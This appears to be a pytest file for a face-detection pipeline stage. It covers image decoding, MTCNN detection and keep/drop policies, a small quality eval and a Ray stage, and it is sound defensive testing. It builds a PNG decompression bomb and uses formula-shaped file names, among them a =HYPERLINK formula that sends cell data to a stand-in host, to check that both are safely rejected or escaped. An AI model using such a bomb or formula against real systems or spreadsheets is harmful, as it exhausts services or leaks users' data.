"""The faces stage: decoding awkward and bad inputs, MTCNN detection and policy, a small quality eval, the Ray stage."""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
import pytest
from PIL import Image
from skimage import data as skdata

from helpers.images import encode
from pipeline.config import FacesConfig, load_config
from pipeline.faces import FaceDetector, crop_folder, run
from pipeline.faces.crop import square_box
from pipeline.faces.quality import eval_lfw, eval_manifest, eval_scales
from pipeline.imaging import ImageDecodeError, decode_image, fit_within, to_jpeg
from pipeline.store import DataRoot, MissingDatasetError


def _png_bomb(side: int = 20000) -> bytes:
    """A valid 1-bit PNG of side×side black pixels: ~50 kB on disk, 400 M pixels decoded."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    comp = zlib.compressobj(9)
    row = b"\x00" * (1 + side // 8)
    body = b"".join(comp.compress(row * 1000) for _ in range(side // 1000)) + comp.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


@pytest.fixture(scope="module")
def astronaut_jpeg() -> bytes:
    return to_jpeg(Image.fromarray(skdata.astronaut()), 92)


@pytest.fixture(scope="module")
def coffee_jpeg() -> bytes:
    return to_jpeg(Image.fromarray(skdata.coffee()), 92)


@pytest.fixture(scope="module")
def bad_inputs(astronaut_jpeg) -> dict[str, bytes]:
    return {
        "truncated": astronaut_jpeg[: len(astronaut_jpeg) // 3],
        "corrupt": astronaut_jpeg[:200] + bytes(range(256)) * 20,
        "empty": b"",
        "html": b"<!DOCTYPE html><html><body>404 Not Found</body></html>",
        "bomb": _png_bomb(),
        "tiny": encode(Image.new("RGB", (1, 1), (200, 10, 10)), "PNG"),
    }


@pytest.fixture(scope="module")
def detector() -> FaceDetector:
    return FaceDetector(FacesConfig(crop_size=96), device="cpu")


# ------------------------------------------------------------------------------------------ decoding
def test_decode_awkward_modes(shared_faces):
    rgba = decode_image((shared_faces / "tests/test_images/32bit.png").read_bytes())
    assert rgba.mode == "RGB" and rgba.size[0] > 100

    cmyk = decode_image(encode(Image.new("CMYK", (30, 20), (0, 255, 255, 0)), "JPEG"))  # pure red in CMYK
    r, g, b = cmyk.getpixel((15, 10))
    assert cmyk.mode == "RGB" and r > 200 and g < 60 and b < 60

    ramp = (np.arange(40 * 30, dtype=np.uint16).reshape(30, 40) * 50).astype(np.uint16)  # 0..59950
    sixteen = decode_image(encode(Image.fromarray(ramp), "PNG"))
    px = np.asarray(sixteen)
    assert sixteen.mode == "RGB" and px.max() >= 230 and px.min() == 0  # scaled down, not clipped at 255

    pal = Image.fromarray(skdata.astronaut()[:64, :64]).convert("P", palette=Image.ADAPTIVE, colors=16)
    assert decode_image(encode(pal, "PNG")).mode == "RGB"
    trans = Image.new("P", (10, 10), 0)
    trans.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    got = decode_image(encode(trans, "PNG", transparency=0))
    assert got.getpixel((5, 5)) == (255, 255, 255)  # transparent → white background

    gray = decode_image(encode(Image.new("L", (8, 8), 77), "PNG"))
    assert gray.mode == "RGB" and gray.getpixel((0, 0)) == (77, 77, 77)


def test_decode_applies_exif_orientation():
    img = Image.new("RGB", (60, 40), (0, 0, 255))
    img.paste((255, 0, 0), (0, 0, 10, 10))  # red marker top-left as stored
    exif = Image.Exif()
    exif[0x0112] = 6  # "rotate 90 CW to display"
    out = decode_image(encode(img, "JPEG", exif=exif.tobytes(), quality=95))
    assert out.size == (40, 60)
    r, g, b = out.getpixel((35, 4))  # the marker ends up top-right
    assert r > 200 and b < 80


def test_decode_bad_inputs_raise_clear_reasons(bad_inputs):
    expect = {"truncated": "truncated", "corrupt": ("corrupt", "truncated"), "empty": "empty"}
    expect |= {"html": "not_an_image", "bomb": "too_large"}
    for name, codes in expect.items():
        with pytest.raises(ImageDecodeError) as info:
            decode_image(bad_inputs[name])
        assert info.value.code in ((codes,) if isinstance(codes, str) else codes), (name, info.value.reason)
    assert "HTML" in str(pytest.raises(ImageDecodeError, decode_image, bad_inputs["html"]).value)
    assert decode_image(bad_inputs["tiny"]).size == (1, 1)


def test_fit_within_and_square_box():
    img = Image.new("RGB", (2000, 1000))
    small, scale = fit_within(img, 800)
    assert small.size == (800, 400) and scale == pytest.approx(0.4)
    assert fit_within(img, 4000)[0] is img
    sq = square_box([10, 10, 50, 70], 200, 200, 0.2)  # 60 px tall box → 84 px square, shifted inside
    assert sq[2] - sq[0] == pytest.approx(84) and sq[0] >= 0 and sq[1] >= 0


def test_similarity_alignment_puts_the_landmarks_on_the_template():
    """A face whose five points are the template turned by 25 degrees, scaled by 2.3 and shifted: the aligned crop
    (margin 0, 112 px) puts each point back on the template, and margin 0.25 shrinks it towards the centre."""
    from pipeline.faces.crop import TEMPLATE_112, crop_face, similarity, template

    a = np.radians(25)
    rot = 2.3 * np.array([[np.cos(a), -np.sin(a)], [np.sin(a), np.cos(a)]])
    pts = TEMPLATE_112 @ rot.T + np.array([140.0, 60.0])
    m = similarity(pts, TEMPLATE_112)
    assert np.allclose(pts @ m[:, :2].T + m[:, 2], TEMPLATE_112, atol=1e-6)
    img = Image.new("RGB", (480, 480), (0, 0, 0))
    px = img.load()
    colours = [(255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 0), (0, 255, 255)]
    for (x, y), c in zip(pts, colours, strict=True):
        for dx in range(-3, 4):
            for dy in range(-3, 4):
                px[int(round(x)) + dx, int(round(y)) + dy] = c
    for margin in (0.0, 0.25):
        crop, sq = crop_face(img, [0, 0, 1, 1], 112, margin, pts.reshape(-1).tolist(), align="similarity")
        arr = np.asarray(crop).astype(int)
        for want, c in zip(template(112, margin), colours, strict=True):
            ys, xs = np.nonzero(np.abs(arr - np.array(c)).sum(axis=2) < 120)
            assert len(xs) and abs(xs.mean() - want[0]) < 1.5 and abs(ys.mean() - want[1]) < 1.5, (margin, c)
        assert sq[2] - sq[0] == pytest.approx(112 * 2.3 * (1 + 2 * margin), rel=1e-6)  # its square, image pixels
    assert FacesConfig(align=True).align == "eyes" and FacesConfig(align=False).align == "none"


# ------------------------------------------------------------------------------------------ detection
def test_detects_one_face_on_astronaut_and_none_on_coffee(detector, astronaut_jpeg, coffee_jpeg):
    face, cup = detector.process([astronaut_jpeg, coffee_jpeg])
    assert face["kept"] and face["reason"] is None and face["n_faces"] == 1
    assert (face["width"], face["height"]) == (512, 512)
    x1, y1, x2, y2 = face["boxes"][0]
    assert 150 < x1 < x2 < 300 and 50 < y1 < y2 < 200  # the astronaut's face, in original pixels
    lm = np.asarray(face["landmarks"][0]).reshape(5, 2)
    assert (lm[:, 0] > x1).all() and (lm[:, 0] < x2).all() and lm[0, 0] < lm[1, 0]  # eyes inside, left first
    assert face["probs"][0] >= 0.9 and 0.01 < face["face_share"] < 0.2
    crop = Image.open(io.BytesIO(face["crop_jpeg"]))
    assert crop.format == "JPEG" and crop.size == (96, 96)
    assert not cup["kept"] and cup["n_faces"] == 0 and cup["reason"].split(":")[0] in ("no_face", "low_prob")
    assert cup["crop_jpeg"] is None


def test_boxes_map_back_to_original_pixels(detector, astronaut_jpeg):
    big = to_jpeg(Image.fromarray(skdata.astronaut()).resize((1536, 1536), Image.BICUBIC), 90)
    small, large = detector.replace(max_side=400, crop_size=64, align=True).process([astronaut_jpeg, big])
    assert small["n_faces"] == large["n_faces"] == 1 and large["kept"]
    assert np.allclose(np.asarray(large["boxes"][0]) / 3, small["boxes"][0], atol=12)
    assert Image.open(io.BytesIO(large["crop_jpeg"])).size == (64, 64)
    with pytest.raises(ValueError, match="detect_min_px"):
        detector.replace(detect_min_px=40)


def test_policies(detector, astronaut_jpeg, shared_faces):
    two = (shared_faces / "examples/two_people.jpg").read_bytes()
    fast = detector.replace(max_side=480, crop_size=32)
    rows = fast.replace(policy="exactly_one").process([astronaut_jpeg, two])
    assert rows[0]["kept"] and not rows[1]["kept"] and rows[1]["reason"].startswith("many_faces: 2")
    largest = fast.replace(policy="largest").process([two])[0]
    assert largest["kept"] and largest["n_faces"] == 2
    boxes = np.asarray(largest["boxes"])
    areas = (boxes[:, 2] - boxes[:, 0]) * (boxes[:, 3] - boxes[:, 1])
    assert largest["face_index"] == int(np.argmax(areas))
    strict = fast.replace(min_face_px=400).process([astronaut_jpeg])[0]
    assert not strict["kept"] and strict["reason"].startswith("too_small")


def test_bad_inputs_become_rows(detector, bad_inputs, astronaut_jpeg):
    names = list(bad_inputs)
    rows = detector.process([bad_inputs[n] for n in names] + [astronaut_jpeg])
    assert len(rows) == len(names) + 1 and rows[-1]["kept"]  # a good image in the same batch is unaffected
    got = {n: r["reason"] for n, r in zip(names, rows, strict=False)}
    assert all(not r["kept"] and r["crop_jpeg"] is None for r in rows[:-1])
    assert got["truncated"].startswith("decode_error: truncated")
    assert got["empty"].startswith("decode_error: empty")
    assert got["html"].startswith("decode_error: not_an_image")
    assert got["bomb"].startswith("decode_error: too_large")
    assert got["corrupt"].startswith("decode_error")
    assert got["tiny"].startswith("image_too_small")


# ------------------------------------------------------------------------------------------ quality (small)
def test_small_quality_eval(detector, shared_faces):
    lfw = eval_lfw(detector, n_faces=12, n_non=12, size=160)
    assert lfw["recall"] >= 0.95 and lfw["precision"] >= 0.99, lfw
    multi = [
        "examples/two_people.jpg",
        "examples/knn_examples/test/obama_and_biden.jpg",
        "examples/knn_examples/test/kit_with_rose.jpg",
        "tests/test_images/32bit.png",
        "examples/obama-1080p.jpg",
    ]
    man = eval_manifest(detector, shared_faces, paths=multi)
    assert man["rows"] == 5 and man["multi_total"] == 3
    assert man["matches"] == 5, man["wrong"]
    sc = eval_scales(detector, shared_faces, ["obama-240p.jpg", "obama-720p.jpg"])
    assert sc["counts"] == [1, 1] and sc["min_iou"] >= 0.8, sc


def test_crop_folder(tmp_path, astronaut_jpeg, coffee_jpeg):
    src = tmp_path / "in"
    (src / "sub").mkdir(parents=True)
    (src / "astro.jpg").write_bytes(astronaut_jpeg)
    (src / "sub" / "coffee.jpg").write_bytes(coffee_jpeg)
    (src / "page.jpg").write_bytes(b"<html>not an image</html>")
    summary = crop_folder(src, tmp_path / "out", 128, FacesConfig(batch_size=2))
    assert summary["images"] == 3 and summary["cropped"] == 1 and summary["no_crop"] == 2
    assert Image.open(tmp_path / "out" / "astro.jpg").size == (128, 128)
    log = (tmp_path / "out" / "no_face.csv").read_text().splitlines()
    assert log[0] == "path,reason" and {line.split(",")[0] for line in log[1:]} == {"page.jpg", "sub/coffee.jpg"}


def test_a_file_name_never_becomes_a_spreadsheet_formula_in_no_face_csv(tmp_path):
    """A downloaded set's file named like a formula is listed with a leading quote: a spreadsheet shows it as
    text, never evaluates it."""
    import csv

    src = tmp_path / "in"
    src.mkdir()
    names = ['=HYPERLINK("https:x.example?d="&A3,"open").jpg', "+1.jpg", "-2.jpg", "@SUM(A1).jpg", "plain.jpg"]
    for name in names:
        (src / name).write_bytes(b"not an image")
    crop_folder(src, tmp_path / "out", 64, FacesConfig(batch_size=4))
    with (tmp_path / "out" / "no_face.csv").open(newline="") as f:
        cells = [row[0] for row in list(csv.reader(f))[1:]]
    assert sorted(cells) == sorted("'" + n if n[0] in "=+-@" else n for n in names)
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)


# ------------------------------------------------------------------------------------------ the Ray stage
def test_stage_run_writes_rows_and_reruns_idempotently(ray_session, data_root, astronaut_jpeg, coffee_jpeg, bad_inputs):
    cfg = load_config(None, overrides={"data_root": str(data_root), "faces.num_actors": 1, "faces.batch_size": 2})
    root = DataRoot(cfg.data_root)
    with pytest.raises(MissingDatasetError, match="posts"):
        run(cfg)
    shas = {
        "astro": root.put_image(astronaut_jpeg),
        "coffee": root.put_image(coffee_jpeg),
        "html": root.put_image(bad_inputs["html"]),
        "bomb": root.put_image(bad_inputs["bomb"]),
    }
    posts = [
        {"site": "t", "item_id": f"p{i}", "image_sha256": sha, "status": "ok"} for i, sha in enumerate(shas.values())
    ]
    posts.append({"site": "t", "item_id": "dup", "image_sha256": shas["astro"], "status": "ok"})  # same image
    posts.append({"site": "t", "item_id": "gone", "image_sha256": "0" * 64, "status": "ok"})  # bytes not stored
    posts.append({"site": "t", "item_id": "err", "image_sha256": None, "status": "error", "reason": "http 404"})
    root.write_part("posts", posts)
    root.write_part("staff", [{"site": "u", "item_id": "s1", "image_sha256": shas["coffee"], "status": "ok"}])

    summary = run(cfg)
    assert summary["candidates"] == 5 and summary["processed"] == 5 and summary["kept"] == 1
    assert summary["reasons"] == {"decode_error": 2, "missing_image": 1, "no_face": 1} or (
        summary["reasons"].get("low_prob") == 1 and summary["reasons"]["decode_error"] == 2
    )
    faces = root.read("faces").to_pylist()
    by = {r["image_sha256"]: r for r in faces}
    assert len(faces) == 5 and set(by) == set(shas.values()) | {"0" * 64}
    astro = by[shas["astro"]]
    assert astro["kept"] and astro["n_faces"] == 1 and astro["crop_jpeg"][:2] == b"\xff\xd8"
    assert astro["processed_at"] is not None and astro["width"] == 512
    assert by[shas["bomb"]]["reason"].startswith("decode_error: too_large")

    again = run(cfg)
    assert again["processed"] == 0 and again["already_done"] == 5
    assert root.read("faces").num_rows == 5
